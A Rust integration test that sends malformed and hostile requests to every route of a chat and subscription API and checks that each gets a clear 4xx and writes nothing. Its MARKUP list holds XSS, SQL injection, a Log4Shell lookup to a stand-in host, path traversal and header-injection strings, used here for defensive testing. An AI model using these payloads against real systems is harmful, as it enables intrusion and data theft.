//! The bad-input matrix: one table of malformed, hostile and mistaken requests over
//! every route, each called in-process through its handler against the real
//! emulator and moto server. Every bad case must answer its 4xx with a clear
//! `{"error":{"message":…}}` (never a 5xx) and write nothing: the table's items and
//! the emulator's log of Stripe writes are compared before and after each case.
//! The rows are grouped by route, one module each; [`valid`] holds the odd but valid
//! requests that must succeed (emails are normalised).

use devchat::{api::App, model::Catalog};
use devchat_kit::{Options, Route, Signed, Stack, request};
use lambda_http::Body;
use serde_json::json;

mod paircode;
mod sessions;
mod sign_in;
mod sign_up;
mod users;
mod valid;
mod webhook;

struct Case {
    name: String,
    route: Route,
    method: &'static str,
    /// As whom the request is made: `Some(user)` sends their `user_id` (and session).
    user: Option<Signed>,
    query: Vec<(&'static str, String)>,
    headers: Vec<(&'static str, String)>,
    body: Body,
    status: u16,
    /// A piece of the message the client must see.
    says: &'static str,
}

impl Case {
    fn new(name: impl Into<String>, route: Route, status: u16, says: &'static str) -> Case {
        Case {
            name: name.into(),
            route,
            method: route.method(),
            user: None,
            query: Vec::new(),
            headers: Vec::new(),
            body: Body::Empty,
            status,
            says,
        }
    }
    fn by(mut self, user: &Signed) -> Case {
        self.user = Some(user.clone());
        self
    }
    fn query(mut self, name: &'static str, value: impl Into<String>) -> Case {
        self.query.push((name, value.into()));
        self
    }
    fn header(mut self, name: &'static str, value: impl Into<String>) -> Case {
        self.headers.push((name, value.into()));
        self
    }
    fn body(mut self, body: impl Into<Body>) -> Case {
        self.body = body.into();
        self
    }
    fn method(mut self, method: &'static str) -> Case {
        self.method = method;
        self
    }

    fn request(&self) -> lambda_http::Request {
        let mut query: Vec<(&str, &str)> = Vec::new();
        let mut headers: Vec<(&str, String)> = vec![("content-type", "application/json".into())];
        if let Some(user) = &self.user {
            query.push(("user_id", &user.id));
            headers.extend(user.cookie.iter().map(|c| ("cookie", c.clone())));
        }
        query.extend(self.query.iter().map(|(k, v)| (*k, v.as_str())));
        headers.extend(self.headers.iter().cloned());
        let headers: Vec<(&str, &str)> = headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
        request(
            self.method,
            self.route.path(),
            &query,
            &headers,
            self.body.clone(),
        )
    }
}

const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' OR '1'='1' --",
    "x'; DROP TABLE users;--",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "cus_1\r\nSet-Cookie: a=b",
    "cus_\u{0}nul",
];

/// The routes that act for one user (`user_id` and their session).
const USER_ROUTES: [Route; 4] = [
    Route::GetUser,
    Route::Checkout,
    Route::Schedule,
    Route::Portal,
];

/// `POST /offerings/paircode`'s body.
fn price_body(price: &str) -> String {
    json!({ "price": price }).to_string()
}

/// Who and what the rows refer to.
struct Cast {
    app: &'static App,
    catalog: Catalog,
    /// A monthly subscriber who has arranged this period's session.
    subscriber: Signed,
    /// A user without a subscription.
    other: Signed,
    /// The subscriber's Checkout Session, which `other` must not be able to use.
    session_id: String,
    /// A real Stripe price that is not ours (another product, no challenge_id).
    foreign_price: String,
}

impl Cast {
    async fn new(stack: &Stack) -> Cast {
        let (app, catalog) = (stack.app, stack.catalog().clone());
        let (subscriber, session_id) = stack
            .signed_subscriber("subscriber@example.com", &catalog.monthly_price.id)
            .await;
        // The subscriber's one monthly session, arranged: a second is refused below.
        let first = devchat_kit::arrange(app, &subscriber, "first-session").await;
        assert_eq!(first.status, 200, "{}", first.body);
        let other = devchat_kit::sign_up(app, "other@example.com").await;
        let product = stack
            .stripe_post("/products", &[("name", "Someone else's product")])
            .await;
        let foreign = stack
            .stripe_post(
                "/prices",
                &[
                    ("product", product["id"].as_str().unwrap()),
                    ("currency", "usd"),
                    ("unit_amount", "100"),
                    ("recurring[interval]", "month"),
                ],
            )
            .await;
        Cast {
            app,
            catalog,
            subscriber,
            other,
            session_id,
            foreign_price: foreign["id"].as_str().unwrap().to_owned(),
        }
    }

    /// A valid body for `route` (Checkout needs a price).
    fn body_for(&self, route: Route) -> String {
        if route == Route::Checkout {
            price_body(&self.catalog.monthly_price.id)
        } else {
            String::new()
        }
    }
}

/// Every route: the wrong method, and a body over 64 KB.
fn every_route(cast: &Cast) -> Vec<Case> {
    let other = &cast.other;
    let oversized = format!(
        r#"{{"email":"{}@example.com","pad":"{}"}}"#,
        "a",
        "x".repeat(65 * 1024)
    );
    let mut cases = Vec::new();
    for route in Route::ALL {
        let wrong = if route.method() == "GET" {
            "POST"
        } else {
            "GET"
        };
        cases.push(
            Case::new(
                format!("{route:?}: wrong method {wrong}"),
                route,
                405,
                "is not allowed here",
            )
            .method(wrong)
            .by(other),
        );
        cases.push(
            Case::new(
                format!("{route:?}: DELETE"),
                route,
                405,
                "is not allowed here",
            )
            .method("DELETE")
            .by(other),
        );
        if route.method() == "POST" {
            cases.push(
                Case::new(
                    format!("{route:?}: body over 64 KB"),
                    route,
                    413,
                    "larger than 64 KB",
                )
                .by(other)
                .body(oversized.clone()),
            );
        }
    }
    cases
}

#[tokio::test]
async fn every_bad_input_is_a_clear_4xx_and_writes_nothing() {
    let stack = Stack::start(Options::provisioned()).await;
    let cast = Cast::new(&stack).await;
    let app = cast.app;
    let mut cases = every_route(&cast);
    cases.extend(sign_up::cases());
    cases.extend(users::cases(&cast));
    cases.extend(paircode::cases(&cast));
    let (session_cases, cookies) = sessions::cases(&cast);
    cases.extend(session_cases);
    // POST /users/sign-in, POST /users/sign-out, and the Origin rule.
    cases.extend(sign_in::cases(&cast, &cookies));
    cases.extend(webhook::cases(&cast));

    assert!(cases.len() >= 100, "the matrix has {} cases", cases.len());
    let mut failures = Vec::new();
    for case in &cases {
        let before = (
            stack.items().await,
            stack.emulator.writes().await.expect("emulator").len(),
        );
        let answer = case.route.call(app, case.request()).await;
        let after = (
            stack.items().await,
            stack.emulator.writes().await.expect("emulator").len(),
        );
        let message = answer.body["error"]["message"].as_str().unwrap_or_default();
        if answer.status != case.status || !message.contains(case.says) || message.trim().len() < 10
        {
            failures.push(format!(
                "{}: expected {} {:?}, got {} {}",
                case.name, case.status, case.says, answer.status, answer.body
            ));
        }
        if before.0 != after.0 {
            failures.push(format!("{}: the table changed", case.name));
        }
        if before.1 != after.1 {
            failures.push(format!(
                "{}: {} Stripe write(s)",
                case.name,
                after.1 - before.1
            ));
        }
        if answer
            .headers
            .get("content-type")
            .and_then(|v| v.to_str().ok())
            != Some("application/json")
        {
            failures.push(format!("{}: the error is not JSON", case.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
    eprintln!(
        "bad-input matrix: {} cases over {} routes, all 4xx, nothing written",
        cases.len(),
        Route::ALL.len()
    );
}
